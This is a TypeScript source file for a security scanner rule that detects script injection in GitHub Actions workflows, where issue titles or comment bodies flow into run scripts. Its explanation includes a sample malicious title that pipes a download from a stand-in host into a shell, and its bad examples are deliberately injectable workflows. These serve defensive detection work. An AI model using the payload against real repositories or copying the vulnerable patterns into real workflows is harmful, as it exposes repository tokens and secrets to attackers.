import { z } from 'zod'
import { exampleFiles } from '../../example-files.ts'
import type { RuleMatch } from '../../rule-match.ts'
import { type ScalarValue, textOf, under, type Value } from '../../../inventory/settings-files/value.ts'
import { defineConfigurationRule } from '../configuration-rule.ts'
import type { SettingsFile } from '../settings-file.ts'
import { injectedInputs, scriptsOf, untrustedVariables } from './injected-input.ts'
import { type Job, privilegedTriggersOf, type Workflow, workflowOf } from './workflow.ts'

const InjectionArguments = z.object({
  job: z.string(),
  input: z.string(),
  use: z.enum(['inserted', 'evaluated']),
  /**
   * Who controls the input. `anyone`: for example, a user who opens an issue. `contributor`: a user who opens a pull
   * request or writes a commit.
   */
  author: z.enum(['anyone', 'contributor']),
  /** Events whose runs have secrets and a token with write access. */
  privilegedTriggers: z.array(z.string()),
})
type InjectionMatch = RuleMatch & { readonly arguments: z.infer<typeof InjectionArguments> }

export const workflowScriptInjection = defineConfigurationRule({
  document: {
    id: 'workflow-script-injection',
    title: 'Script injection in a GitHub Actions workflow: untrusted input becomes part of a script',
    category: 'configuration',
    severity: 'high',
    precision: 'medium',
    cwe: ['CWE-78', 'CWE-94'],
    owaspMcp: ['MCP04:2025', 'MCP05:2025'],
    safeMcp: ['SAFE-T1002'],
    what:
      'A workflow uses `${{ … }}` to insert a title, text, or branch name from an untrusted user into a script, ' +
      'directly or through `env`. GitHub inserts the value before the script is parsed.',
    why:
      'A title such as `"; curl evil.example | sh; "` becomes shell commands. These commands can use the ' +
      "repository's token. For most events that carry untrusted text, they can also use the repository's secrets.",
    remediation:
      'Pass the value through `env:`, and use the quoted shell variable: `env: { TITLE: ${{ ' +
      'github.event.issue.title }} }` and `"$TITLE"`. In JavaScript, use `process.env.TITLE`.',
    examples: {
      bad: [
        exampleFiles({
          '.github/workflows/greet.yml':
            'on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    ' +
            'steps:\n      - run: echo "New issue ${{ github.event.issue.title }}"',
        }),
        exampleFiles({
          '.github/workflows/answer.yml':
            'on:\n  issue_comment:\n    types: [created]\npermissions:\n  contents: write\njobs:\n  ' +
            'answer:\n    runs-on: ubuntu-24.04\n    env:\n      COMMENT: ${{ github.event.comment.body ' +
            '}}\n    steps:\n      - run: |\n          echo "${{ env.COMMENT }}" >> words.txt',
        }),
      ],
      good: [
        exampleFiles({
          '.github/workflows/greet.yml':
            'on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    ' +
            'steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "New ' +
            'issue $TITLE"',
        }),
        exampleFiles({
          '.github/workflows/count.yml':
            'on: issues\npermissions: {}\njobs:\n  count:\n    runs-on: ubuntu-24.04\n    steps:\n      - ' +
            'run: echo "Issue ${{ github.event.issue.number }}, a bug ${{ ' +
            "contains(github.event.issue.title, 'bug') }}\"",
        }),
      ],
    },
  },
  kinds: ['workflow', 'action'],
  arguments: InjectionArguments,
  describe({ job, input, use, author, privilegedTriggers }, { location }) {
    const injected =
      use === 'inserted'
        ? `inserts \`${input}\` into a script before the script is parsed`
        : `runs the value of the variable \`${input}\` as code`
    const choice =
      author === 'anyone' ? 'Anyone can control this value.' : 'Pull request and commit authors can control this value.'
    const consequence =
      privilegedTriggers.length > 0
        ? `In runs triggered by ${privilegedTriggers.join(' or ')}, injected commands can access the repository's ` +
          'token and secrets.'
        : 'Injected commands run with the permissions of this workflow run.'
    return {
      title: `Script injection through ${input} in ${location?.path ?? 'a workflow'}`,
      message: `The job "${job}" ${injected}. ${choice} ${consequence}`,
    }
  },
  *find(file) {
    const workflow = workflowOf(file)
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        const variables = [workflow.env, under(job.value, 'env'), under(step.value, 'env')].map(untrustedVariables)
        for (const script of scriptsOf(step))
          yield* injections(file, workflow, job, script, (name) => variables.some((names) => names.has(name)))
      }
    }
  },
})

function* injections(
  file: SettingsFile,
  workflow: Workflow,
  { id, permissions }: Job,
  script: ScalarValue,
  isUntrusted: (name: string) => boolean,
): Generator<InjectionMatch> {
  for (const { input, use, text, variable } of injectedInputs(script)) {
    if (variable !== undefined && !isUntrusted(variable)) continue
    const triggers = privilegedTriggersOf(workflow)
    const privilegedTriggers = isReadOnly((permissions ?? workflow.permissions)?.value) ? [] : triggers
    yield {
      arguments: { job: id, input, use, author: triggers.length > 0 ? 'anyone' : 'contributor', privilegedTriggers },
      subject: `${id} ${input}`,
      at: file.placeAt(file.offsetOf(text, script.offset)),
      severity: privilegedTriggers.length > 0 ? 'high' : 'medium',
    }
  }
}

/** Reports whether the token lacks write access: `permissions: {}` or `read-all`. The job may still use secrets. */
function isReadOnly(permissions: Value | undefined): boolean {
  return (
    textOf(permissions) === 'read-all' ||
    (permissions?.kind === 'mapping' &&
      permissions.entries.every(({ value }) => /^(?:read|none)$/.test(textOf(value) ?? '')))
  )
}
